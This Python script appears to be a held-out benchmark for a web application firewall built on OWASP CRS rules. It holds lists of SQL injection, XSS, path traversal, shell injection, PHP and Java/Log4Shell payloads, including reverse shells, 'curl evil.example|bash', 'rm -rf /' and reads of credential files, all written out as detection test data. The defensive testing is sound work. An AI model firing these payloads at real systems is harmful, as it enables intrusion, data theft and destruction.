"""Held-out detection check of the CRS engine: catch rate per attack family, benign block rate.

    .venv/bin/python bench/crs_detection.py                  # CRS from ../shared/crs-4.28.0
    .venv/bin/python bench/crs_detection.py --misses         # also list what passed / blocked

The corpus below is written for this file and is not used by the tests (tests/crs has its own
requests). Each payload travels in several places a client can put it (query string, JSON body,
form body, and for some a header or cookie), so a gap in how the engine builds ARGS shows up as
a carrier with a lower rate. Nothing here tunes the rules: a miss is either an engine defect to
fix or a case CRS does not catch at that paranoia level by design.
"""

from __future__ import annotations

import argparse
import json
import sys
from collections import defaultdict
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from gateway.validation.crs import CrsEngine, RequestView

DEFAULT_RULES = Path(__file__).resolve().parents[2] / "shared" / "crs-4.28.0" / "rules"

HEADERS = (
    ("Host", "shop.example.org"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 Safari/17.2"),
    ("Accept", "*/*"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
)

SQLI = [
    "1' UNION SELECT NULL,NULL,NULL-- -",
    "1 union all select 1,2,concat(user,0x3a,password) from mysql.user#",
    "admin'-- ",
    "' or 'a'='a",
    "1' AND 1=1 AND 'x'='x",
    "1) or (1=1",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1; DROP TABLE customers--",
    "1'; exec master..xp_cmdshell 'dir'--",
    "1 OR pg_sleep(5)--",
    "-1' UnIoN/**/SeLeCt/**/1,2,3-- -",
    "1/**/or/**/1=1",
    "1' or benchmark(10000000,md5(1))#",
    "' OR 1=1 LIMIT 1 OFFSET 1 -- ",
    "1 AND extractvalue(1,concat(0x7e,(select version())))",
    "1' AND updatexml(1,concat(0x7e,database()),1)-- -",
    "' having 1=1--",
    "1 order by 10-- -",
    "' or ''='",
    "1' and substring(@@version,1,1)='5",
    "1 and ascii(substr((select table_name from information_schema.tables limit 1),1,1))>64",
    "';select load_file('/etc/passwd')-- -",
    "1 UNION SELECT @@version,NULL INTO OUTFILE '/tmp/x.txt'",
    "admin' or 1=1#",
    "x' AND 1=(SELECT COUNT(*) FROM tablenames); --",
    "1 or sleep(5)#",
    "' union select username, password from accounts where '1'='1",
    "1%27%20or%20%271%27%3D%271",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
]

XSS = [
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=prompt(document.domain)>",
    "<body onload=alert('x')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<svg/onload=confirm(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "'><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)">',
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    "<form action=javascript:alert(1)><input type=submit>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    '<a onmouseover="alert(document.cookie)">x</a>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "javascript&colon;alert(1)",
]

LFI = [
    "../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "..\\..\\..\\boot.ini",
    "/etc/shadow",
    "/proc/self/environ",
    "../../../../var/log/apache2/access.log",
    "..%c0%af..%c0%afetc/passwd",
    "file:///etc/passwd",
    "/../../../../windows/system32/drivers/etc/hosts",
    "..%5c..%5cwindows%5cwin.ini",
    "../../../../etc/passwd%00.png",
    "/var/www/../../etc/group",
    "..;/..;/etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "../.ssh/id_rsa",
    "../../.env",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd",
]

RCE = [
    "; ls -la",
    "| id",
    "`id`",
    "$(whoami)",
    "&& cat /etc/passwd",
    "|| uname -a",
    "; wget http://evil.example/s.sh -O /tmp/s",
    "x;cat${IFS}/etc/passwd",
    ";cat$IFS/etc/passwd",
    "a;/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; curl evil.example|bash",
    "| nc -lvp 4444 -e /bin/bash",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "%0aid",
    "; ping -c 10 127.0.0.1",
    "; rm -rf /",
    "& powershell -enc SQBFAFgA",
    "| cmd.exe /c dir",
    "; c'a't /etc/passwd",
    "; /bin/c?t /etc/passwd",
    "`sleep 5`",
    "$(sleep 5)",
    "; chmod 777 /tmp/x",
    "; nslookup evil.example",
]

PHP = [
    "<?php echo shell_exec($_GET['c']); ?>",
    "<?= system('id') ?>",
    "php://input",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "expect://id",
    "phar://uploads/x.jpg/shell",
    "system('id');",
    "passthru('ls');",
    "eval($_POST['x']);",
    "assert($_REQUEST['a'])",
    "preg_replace('/.*/e','system(\"id\")','')",
    "file_put_contents('s.php', $x)",
    "call_user_func('system','id')",
    'O:8:"stdClass":1:{s:4:"test";s:4:"evil";}',
    'a:2:{i:0;s:4:"test";i:1;O:4:"Evil":0:{}}',
    "include($_GET['p'])",
    "zip://shell.jpg#payload.php",
    "proc_open('id', $d, $p)",
    "highlight_file('/etc/passwd')",
    "phpinfo();",
    "<?php @eval(base64_decode($_POST[z0]));?>",
]

JAVA = [
    "${jndi:ldap://evil.example:1389/a}",
    "${jndi:rmi://evil.example/x}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}",
    "${jndi:dns://evil.example}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
    "new java.lang.ProcessBuilder('id').start()",
    "Runtime.getRuntime().exec('id')",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "javax.script.ScriptEngineManager",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.System).getenv()}",
    "java.beans.XMLDecoder",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}',
    "${jndi:ldaps://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
]

BENIGN = [
    "I don't think it's ready yet, but we'll see",
    "O'Reilly Media",
    "Rock 'n' roll never dies",
    'She said "hello" and left',
    "def add(a, b): return a + b",
    "for (let i = 0; i < n; i++) { sum += i; }",
    "Please select one item from the list and update your order",
    "jane.doe+newsletter@example.com",
    "https://example.com/path/to/page?x=1&y=2",
    "# Title\n\n* item one\n* item **bold**\n\n[link](https://example.com)",
    "42",
    "3.14159",
    "-17",
    "2024-05-01T12:34:56Z",
    "c9a1e8f2-4b7d-4c1e-9f0a-2d3b4c5e6f70",
    "+44 20 7946 0958",
    "221B Baker Street, London NW1 6XE",
    "red shoes size 42",
    "C# and C++ developers wanted",
    "50% off, today only!",
    "Tom & Jerry",
    "if a < b and c > d then swap",
    "I'm 5'10\" tall",
    "The price is $5 (five dollars)",
    "Can't wait to see y'all at the O'Neil's party!",
    "Where's the remote? It's under the sofa's cushion.",
    "Let's meet at 5 o'clock; bring snacks.",
    "The function returns null when the list is empty.",
    "SELECT a gift for your friend's birthday",
    "We updated the delete button and the create form",
    "user_id",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "Mozilla Firefox on Windows 10",
    "Order #12345 shipped via UPS",
    "text/html; charset=utf-8",
    "München, Zürich and Kraków",
    "日本語のテキスト",
    "Emoji test 😀👍",
    "He scored 10/10 on the test",
    "src/components/Button.tsx",
    "Version 2.4.1-beta+build.7",
    "New York, NY 10001",
    "The quick brown fox jumps over the lazy dog",
    "Pasta al pomodoro (serves 4): tomatoes, garlic, basil.",
    "Reminder: the meeting moved to Tuesday @ 3pm",
    "Ship to: 1 Infinite Loop, Cupertino, CA",
    "Please call me back at your earliest convenience",
    "I love this product!!! 5 stars",
    "a=1, b=2, c=3",
    "Does this work with Python 3.11 or newer?",
    "What is the difference between 'let' and 'const'?",
    "Run `npm install` then `npm test`",
    "return x * 2 if x > 0 else 0",
    "Cheers, Bob",
    "Q3 revenue grew 12% year over year",
    "The user's profile picture failed to upload",
    "true",
    "false",
    "null terminated strings are common in C",
    "Refund requested for order 98765 - item arrived damaged",
]

FAMILIES: dict[str, list[str]] = {
    "sqli": SQLI,
    "xss": XSS,
    "lfi": LFI,
    "rce": RCE,
    "php": PHP,
    "java": JAVA,
}


def _base(extra: tuple[tuple[str, str], ...] = ()) -> tuple[tuple[str, str], ...]:
    return HEADERS + extra


def as_query(name: str, payload: str) -> RequestView:
    return RequestView("GET", f"/shop/search?{name}={quote(payload, safe='')}", "HTTP/1.1", _base())


def as_json(name: str, payload: str) -> RequestView:
    body = json.dumps({"order": {"id": 7, "tags": ["a", payload]}, name: payload}).encode()
    headers = _base((("Content-Type", "application/json"), ("Content-Length", str(len(body)))))
    return RequestView("POST", "/api/orders", "HTTP/1.1", headers, body)


def as_form(name: str, payload: str) -> RequestView:
    body = urlencode({name: payload, "submit": "Send"}).encode()
    headers = _base(
        (
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Content-Length", str(len(body))),
        )
    )
    return RequestView("POST", "/account/update", "HTTP/1.1", headers, body)


def as_cookie(name: str, payload: str) -> RequestView:
    return RequestView(
        "GET", "/shop/cart", "HTTP/1.1", _base((("Cookie", f"{name}={quote(payload)}"),))
    )


def as_user_agent(name: str, payload: str) -> RequestView:
    headers = (*(h for h in HEADERS if h[0] != "User-Agent"), ("User-Agent", payload))
    return RequestView("GET", "/", "HTTP/1.1", headers)


Carrier = Callable[[str, str], RequestView]

CARRIERS: dict[str, Carrier] = {"query": as_query, "json": as_json, "form": as_form}
EXTRA_CARRIERS: dict[str, dict[str, Carrier]] = {
    "sqli": {"cookie": as_cookie},
    "java": {"user-agent": as_user_agent},
}


def cases() -> Iterator[tuple[str, str, str, RequestView]]:
    """(family, carrier, payload, request) for every attack and every benign value."""
    for family, payloads in FAMILIES.items():
        carriers = {**CARRIERS, **EXTRA_CARRIERS.get(family, {})}
        for payload in payloads:
            for carrier, build in carriers.items():
                yield family, carrier, payload, build("q", payload)
    for payload in BENIGN:
        for carrier, build in {**CARRIERS, "cookie": as_cookie}.items():
            yield "benign", carrier, payload, build("comment", payload)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rules", type=Path, default=DEFAULT_RULES)
    parser.add_argument("--levels", type=int, nargs="+", default=[1, 2])
    parser.add_argument("--misses", action="store_true", help="list missed attacks, blocked benign")
    args = parser.parse_args()
    all_cases = list(cases())
    for level in args.levels:
        engine = CrsEngine.load(args.rules, paranoia_level=level, time_budget=30.0)
        totals: dict[str, list[int]] = defaultdict(lambda: [0, 0])
        by_carrier: dict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0])
        misses: list[str] = []
        for family, carrier, payload, view in all_cases:
            verdict = engine.evaluate(view)
            hit = verdict.blocked
            totals[family][0] += hit
            totals[family][1] += 1
            by_carrier[(family, carrier)][0] += hit
            by_carrier[(family, carrier)][1] += 1
            if hit == (family == "benign"):
                misses.append(
                    f"  {family:6} {carrier:10} score {verdict.anomaly_score:3} "
                    f"{list(verdict.rule_ids)[:6]} {payload!r}"
                )
        print(f"\nparanoia level {level}")
        for family, (hits, total) in totals.items():
            word = "blocked" if family == "benign" else "caught"
            carriers = "  ".join(
                f"{c}:{h}/{t}" for (f, c), (h, t) in by_carrier.items() if f == family
            )
            print(f"  {family:7} {word} {hits:3}/{total:<3} = {hits / total:6.1%}   ({carriers})")
        if args.misses:
            print("  misses (attacks that passed, benign that was blocked):")
            print("\n".join(misses) or "  none")


if __name__ == "__main__":
    main()
